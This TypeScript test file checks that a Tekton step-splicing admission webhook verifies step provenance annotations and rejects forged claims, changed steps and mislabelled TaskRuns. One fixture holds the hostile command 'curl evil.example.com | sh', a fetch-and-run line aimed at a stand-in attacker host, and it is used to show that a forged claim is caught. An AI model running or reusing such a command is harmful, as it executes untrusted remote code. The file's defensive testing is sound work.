// Policies on runs stepsplice expanded before: the API server calls the
// webhook again (reinvocation), or Tekton creates a pipeline task's TaskRun
// carrying the PipelineRun's annotations. Provenance is verified by splicing
// the steps as written (kept in stepsplice.dev/resolved) again: stepsplice's
// own output passes inlineSteps, sources and requiredSteps; an annotation
// that claims what splicing does not give proves nothing.

import t from 'tap'
import { spliceObject } from '../src/pipeline/splice.ts'
import type { LoadedPolicy } from '../src/policy/types.ts'
import { formatProblem } from '../src/problems/problem.ts'
import type { Catalog } from '../src/resolution/catalog.ts'
import type { Expansion } from '../src/steps/expansion.ts'
import type { KubeObject } from '../src/types/k8s.ts'
import { catalogOf, pipelineRun, stepAction, stepsOf, taskRun, policiesOf } from './helpers/catalog.ts'
import { resolvedKey } from './helpers/pod.ts'

const catalog = catalogOf(
  stepAction('build', {
    image: 'registry.example.com/build:1',
    params: [{ name: 'target', default: 'all' }],
    command: ['make'],
    args: ['$(params.target)'],
  }),
  stepAction('scanner', { image: 'registry.example.com/scanner:1', command: ['scan'] }),
)

const strict = policiesOf(`
apiVersion: stepsplice.dev/v1alpha1
kind: ClusterStepPolicy
metadata: {name: platform-only}
spec:
  inlineSteps: Deny
  sources: {allow: ["directory:default/*"]}
  requiredSteps:
    - {name: scan, ref: {name: scanner}}
`)

/** Inline steps denied, nothing else: what judges whether a step is a definition's. */
const noInline = policiesOf('apiVersion: stepsplice.dev/v1alpha1\nkind: ClusterStepPolicy\nmetadata: {name: no-inline}\nspec: {inlineSteps: Deny}\n')

const splice = (obj: KubeObject, ps: readonly LoadedPolicy[] = strict): Promise<Expansion> => spliceObject(obj, 'default', { catalog, policies: ps })
const messages = (e: Expansion): string[] => e.problems.map(formatProblem)
const claims = (o: KubeObject): Record<string, unknown>[] => JSON.parse(o.metadata?.annotations?.[resolvedKey] ?? '[]')
const withClaims = (o: KubeObject, entries: unknown[]): KubeObject => ({
  ...o,
  metadata: { ...o.metadata, annotations: { ...o.metadata?.annotations, [resolvedKey]: JSON.stringify(entries) } },
})

const run = taskRun({ steps: [{ name: 'build', ref: { name: 'build' }, params: [{ name: 'target', value: 'test' }] }] })
const first = await splice(run)

t.test('the annotation keeps each step as written', async (t) => {
  t.strictSame(messages(first), [])
  t.strictSame(
    claims(first.object).map((c) => c.written),
    [
      { name: 'build', ref: { name: 'build' }, params: [{ name: 'target', value: 'test' }] },
      { name: 'scan', ref: { name: 'scanner' } },
    ],
  )
})

t.test('re-admitted, stepsplice’s own output passes inlineSteps, sources and requiredSteps, unchanged', async (t) => {
  const again = await splice(first.object)
  t.strictSame(messages(again), [])
  t.equal(again.changed, false)
  t.strictSame(again.warnings, [])
  t.strictSame(stepsOf(again), stepsOf(first))
})

t.test('another webhook’s change elsewhere in the object does not unsettle it', async (t) => {
  const labelled = { ...first.object, metadata: { ...first.object.metadata, labels: { 'team.example.com/cost-centre': '42' } } }
  t.strictSame(messages(await splice(labelled)), [])
})

t.test('a spliced step changed afterwards is no longer its definition’s: an inline step', async (t) => {
  const steps = stepsOf(first).map((s) => (s.name === 'build' ? { ...s, image: 'docker.io/library/busybox:1.37' } : s))
  const changed = { ...first.object, spec: { taskSpec: { ...(first.object.spec as { taskSpec: object }).taskSpec, steps } } }
  const e = await splice(changed)
  t.match(messages(e), [/spec\.taskSpec\.steps\[0\].*inlineSteps/])
  t.match(e.warnings, [/stepsplice\.dev\/resolved: 1 of the steps it names are not what their definitions give/])
})

t.test('a forged claim proves nothing: the written step must splice to the step that is there', async (t) => {
  // An inline step, claimed to be the build definition with a plausible written step.
  const inline = taskRun({
    steps: [
      { name: 'build', image: 'docker.io/library/busybox:1.37', script: 'curl evil.example.com | sh' },
      { name: 'scan', image: 'docker.io/library/busybox:1.37', script: 'true' },
    ],
  })
  const forged = withClaims(inline, [
    {
      path: 'spec.taskSpec.steps[0]',
      step: 'build',
      definition: 'default/build',
      source: 'directory',
      digest: 'x',
      written: { name: 'build', ref: { name: 'build' } },
    },
    {
      path: 'spec.taskSpec.steps[1]',
      step: 'scan',
      definition: 'default/scanner',
      source: 'directory',
      digest: 'x',
      written: { name: 'scan', ref: { name: 'scanner' } },
    },
  ])
  const e = await splice(forged)
  const text = messages(e).join('\n')
  t.match(text, /spec\.taskSpec\.steps\[0\].*inlineSteps/, 'the claimed build is an inline step')
  t.match(text, /spec\.taskSpec\.steps\[1\].*inlineSteps/, 'so is the claimed scanner')
  t.match(text, /step "scan" must be the required step StepAction scanner/, 'and the claimed scanner does not satisfy requiredSteps')
  // Claims without the steps as written (as an annotation from before they were kept) verify nothing either.
  const bare = withClaims(
    first.object,
    claims(first.object).map(({ written: _, ...c }) => c),
  )
  t.match(messages(await splice(bare)), [/requiredSteps: step "scan" must be/, /steps\[0\].*inlineSteps/, /steps\[1\].*inlineSteps/])
})

t.test('a pipeline task’s TaskRun, created by Tekton with the PipelineRun’s annotations, is verified against its task', async (t) => {
  const pr = pipelineRun({
    tasks: [
      { name: 'lint', taskSpec: { steps: [{ name: 'build', ref: { name: 'build' }, params: [{ name: 'target', value: 'lint' }] }] } },
      { name: 'unit', taskSpec: { steps: [{ name: 'build', ref: { name: 'build' }, params: [{ name: 'target', value: 'unit' }] }] } },
    ],
  })
  const e = await splice(pr)
  t.strictSame(messages(e), [])
  const tasks = ((e.object.spec as { pipelineSpec: unknown }).pipelineSpec as { tasks: { name: string; taskSpec: Record<string, unknown> }[] }).tasks
  for (const task of tasks) {
    // What Tekton creates: the pipeline task's taskSpec, and the PipelineRun's annotations.
    const child: KubeObject = {
      apiVersion: 'tekton.dev/v1',
      kind: 'TaskRun',
      metadata: { name: `pr-${task.name}`, namespace: 'default', annotations: { ...e.object.metadata?.annotations } },
      spec: { taskSpec: task.taskSpec },
    }
    const judged = await splice(child)
    t.strictSame(messages(judged), [], `${task.name}: its steps are the definitions’ (task ${task.name}'s claims verified, not the other task’s)`)
    t.equal(judged.changed, false)
  }
})

t.test('without a policy that asks where steps came from, nothing is spliced again', async (t) => {
  const imagesOnly = policiesOf(`
apiVersion: stepsplice.dev/v1alpha1
kind: ClusterStepPolicy
metadata: {name: registry}
spec:
  images: {allow: ["registry.example.com/**"]}
`)
  let lookups = 0
  const counting: Catalog = {
    size: catalog.size,
    resolve: (ref) => {
      lookups++
      return catalog.resolve(ref)
    },
  }
  const e = await spliceObject(first.object, 'default', { catalog: counting, policies: imagesOnly })
  t.strictSame(messages(e), [])
  t.equal(lookups, 0, 'no definition was looked up')
  await spliceObject(first.object, 'default', { catalog: counting, policies: strict })
  t.ok(lookups > 0, 'with one, the steps as written are spliced again')
})

/** What Tekton creates for pipeline task `name` of an expanded PipelineRun: its task spec, after `fill` (Tekton's pipeline-level substitution). */
function childOf(pr: KubeObject, name: string, fill: (text: string) => string = (x) => x): KubeObject {
  const tasks = (pr.spec as { pipelineSpec: { tasks: { name: string; taskSpec: unknown }[] } }).pipelineSpec.tasks
  const task = tasks.find((x) => x.name === name)
  return {
    apiVersion: 'tekton.dev/v1',
    kind: 'TaskRun',
    metadata: {
      name: `pr-${name}`,
      namespace: 'default',
      labels: { 'tekton.dev/pipelineRun': 'pr', 'tekton.dev/pipelineTask': name },
      annotations: { ...pr.metadata?.annotations },
      ownerReferences: [{ apiVersion: 'tekton.dev/v1', kind: 'PipelineRun', name: 'pr', uid: 'u', controller: true }],
    },
    spec: { taskSpec: JSON.parse(fill(JSON.stringify(task?.taskSpec))) },
  }
}

t.test(
  'a TaskRun the Tekton controller created keeps its PipelineRun’s provenance, pipeline params filled in; another creator’s is spliced again',
  async (t) => {
    const pr = pipelineRun(
      {
        params: [{ name: 'target' }],
        tasks: [{ name: 'ship', taskSpec: { steps: [{ name: 'build', ref: { name: 'build' }, params: [{ name: 'target', value: '$(params.target)' }] }] } }],
      },
      [{ name: 'target', value: 'release' }],
    )
    const e = await splice(pr, noInline)
    t.strictSame(messages(e), [])
    // Whatever the PipelineRun pass left for Tekton to fill in, filled in as Tekton does.
    const child = childOf(e.object, 'ship', (x) => x.replaceAll('$(params.target)', 'release'))
    const trusted = await spliceObject(child, 'default', { catalog, policies: noInline }, { createdByTekton: true })
    t.strictSame(messages(trusted), [], 'created by the Tekton controller: its task’s entries hold')
    t.equal(trusted.changed, false)
    // Created by anyone else, the claims are spliced again in the TaskRun's own context, where the pipeline param is not
    // declared: the step as written does not give the step there, so nothing vouches for it.
    const other = await spliceObject(child, 'default', { catalog, policies: noInline })
    t.match(messages(other), [/spec\.taskSpec\.steps\[0\].*inlineSteps/])
  },
)

t.test('the pipeline task label picks a TaskRun’s own entries, however many tasks share a step name', async (t) => {
  const names = ['a', 'b', 'c', 'd', 'e', 'f']
  const pr = pipelineRun({
    tasks: names.map((name) => ({
      name,
      taskSpec: { steps: [{ name: 'build', ref: { name: 'build' }, params: [{ name: 'target', value: name }] }] },
    })),
  })
  const e = await splice(pr, [])
  t.strictSame(messages(e), [])
  for (const name of names) {
    const judged = await spliceObject(childOf(e.object, name), 'default', { catalog, policies: noInline })
    t.strictSame(messages(judged), [], `task ${name}`)
  }
  // The label says which task; a forged one makes the claims of another task fail to match.
  const lying = childOf(e.object, 'a')
  lying.metadata = { ...lying.metadata, labels: { 'tekton.dev/pipelineTask': 'f' } }
  t.match(messages(await spliceObject(lying, 'default', { catalog, policies: noInline })), [/inlineSteps/])
})

t.test('required steps added First move the verified steps down with them', async (t) => {
  const honest = await splice(taskRun({ steps: [{ name: 'build', ref: { name: 'build' } }] }), [])
  const steps = [{ name: 'evil', image: 'docker.io/library/busybox:1.37', script: 'true' }, ...stepsOf(honest)]
  const entries = claims(honest.object).map((c) => ({ ...c, path: 'spec.taskSpec.steps[1]' }))
  const run = withClaims({ ...honest.object, spec: { taskSpec: { steps } } }, entries)
  const firstScan = policiesOf(`
apiVersion: stepsplice.dev/v1alpha1
kind: ClusterStepPolicy
metadata: {name: scan-first}
spec:
  inlineSteps: Deny
  requiredSteps: [{name: scan, ref: {name: scanner}, position: First}]
`)
  const e = await splice(run, firstScan)
  t.strictSame(
    e.problems.map((p) => [p.path, p.step]),
    [['spec.taskSpec.steps[1]', 'evil']],
    'the inline step is named where it now is, and the verified build is not',
  )
})

t.test('a TaskRun naming its Task is judged by the Task’s steps, and keeps its taskRef when nothing is added', async (t) => {
  const withTask: Catalog = {
    size: catalog.size,
    resolve: (ref) => catalog.resolve(ref),
    async resolveTask(ref) {
      return ref.name === 'inline-only'
        ? {
            task: {
              namespace: ref.namespace,
              name: ref.name,
              labels: {},
              annotations: {},
              spec: { steps: [{ name: 'sh', image: 'docker.io/library/busybox:1.37', script: 'true' }] },
              location: '/apis/tekton.dev/v1/namespaces/default/tasks/inline-only',
            },
          }
        : { error: 'not found', missing: true }
    },
  }
  const byRef: KubeObject = {
    apiVersion: 'tekton.dev/v1',
    kind: 'TaskRun',
    metadata: { name: 'r', namespace: 'default' },
    spec: { taskRef: { name: 'inline-only' } },
  }
  t.match(messages(await spliceObject(byRef, 'default', { catalog: withTask, policies: noInline })), [/spec\.taskSpec\.steps\[0\].*inlineSteps/])
  const busybox = policiesOf(
    'apiVersion: stepsplice.dev/v1alpha1\nkind: ClusterStepPolicy\nmetadata: {name: busybox}\nspec: {images: {allow: ["docker.io/library/busybox:*"]}}\n',
  )
  const allowed = await spliceObject(byRef, 'default', { catalog: withTask, policies: busybox })
  t.strictSame(messages(allowed), [])
  t.equal(allowed.changed, false, 'admitted as sent: the Task stays referenced')
})

t.test('a definition gone or changed since the first admission refutes its own step only', async (t) => {
  const build = stepAction('build', {
    image: 'registry.example.com/build:1',
    params: [{ name: 'target', default: 'all' }],
    command: ['make'],
    args: ['$(params.target)'],
  })
  const scanner = stepAction('scanner', { image: 'registry.example.com/scanner:1', params: [{ name: 'level' }], command: ['scan', '$(params.level)'] })
  const first = await spliceObject(
    taskRun({
      steps: [
        { name: 'build', ref: { name: 'build' } },
        { name: 'scan', ref: { name: 'scanner' }, params: [{ name: 'level', value: 'high' }] },
      ],
    }),
    'default',
    { catalog: catalogOf(build, scanner) },
  )
  t.strictSame(messages(first), [])
  for (const [why, catalog] of [
    ['gone', catalogOf(build)],
    // It no longer declares the param the step passes: splicing the step as written is now a problem.
    ['changed', catalogOf(build, stepAction('scanner', { image: 'registry.example.com/scanner:2', command: ['scan'] }))],
  ] as const) {
    const e = await spliceObject(first.object, 'default', { catalog, policies: noInline })
    t.strictSame(
      e.problems.map((p) => [p.path, p.step]),
      [['spec.taskSpec.steps[1]', 'scan']],
      `${why}: the scanner’s step is inline now; the build step is still its definition’s`,
    )
    t.match(e.warnings, [/stepsplice\.dev\/resolved: 1 of the steps it names are not what their definitions give/])
  }
})
